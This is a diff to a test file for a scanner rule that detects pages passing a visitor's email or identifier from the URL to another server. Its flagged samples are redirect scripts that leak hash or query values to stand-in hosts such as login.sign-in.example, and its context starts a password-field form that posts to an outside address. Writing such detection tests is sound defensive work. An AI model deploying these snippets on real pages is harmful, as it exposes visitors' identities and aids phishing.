@@ -31,6 +31,29 @@ test('good: nobody is named, somebody has to press something, or a mail is writt
   ]) assert.deepEqual(said(rule, { 'a.js': code }), [], code);
 });
 
+test('bad: another server is told what stands behind the address of the page', () => {
+  for (const code of [
+    `var e = location.hash.slice(1); var u = "${ADDRESS}?u=" + encodeURIComponent(e); setTimeout(function () { window.location.replace(u) }, 500);`,
+    `const mail = (location.hash || "").replace("#", ""); location.href = "${ADDRESS}?hint=" + encodeURIComponent(atob(mail) || mail);`,
+    `const to = new URL("${ADDRESS}"); to.searchParams.set("login_hint", new URLSearchParams(location.search).get("e")); top.location.assign(to.toString());`,
+    'const host = "https://login.sign-in.example", part = window.location.href.split("#")[1]; location = `${host}/auth?user=${decodeURIComponent(part)}`;',
+  ]) assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), ['high a.html:2'], code);
+});
+
+test('good: a page that has moved, a search, a short link, a sign-in that comes back, who sent somebody, names in a circle', () => {
+  for (const code of [
+    `location.replace("${ADDRESS}" + location.hash)`,
+    `location.replace("${ADDRESS}?" + location.search.slice(1))`,
+    `location.replace("${ADDRESS}/" + location.hash.slice(1))`,
+    `location.replace("${ADDRESS}?q=" + encodeURIComponent(location.hash.slice(1)))`,
+    `location.href = "${ADDRESS}?client=a&redirect_uri=" + encodeURIComponent(location.href) + "&state=" + encodeURIComponent(location.hash)`,
+    `location.replace("${ADDRESS}?ref=" + (new URLSearchParams(location.search).get("ref") || ""))`,
+    'location.replace("/login?user=" + location.hash.slice(1))',
+    `opener.postMessage({ token: location.hash.slice(1) }, location.origin); location.replace("https://localhost:3000/u?user=" + location.hash.slice(1))`,
+    `var a = "${ADDRESS}?u=" + b, b = "${ADDRESS}?u=" + a; location.href = a`,
+  ]) assert.deepEqual(said(rule, { 'a.html': `<p>Opening</p>\n<script>${code}</script>` }), [], code);
+});
+
 test('bad: one person is asked for a password; good: whoever comes, with a field for who they are, a mail that is only shown, no server', () => {
   const send = (body: string): string => `field.form.onsubmit = () => fetch("${ADDRESS}", { method: "POST", mode: "no-cors", body: ${body} });`;
   const field = 'const field = document.createElement("input"); field.type = "password"; document.body.append(field);';
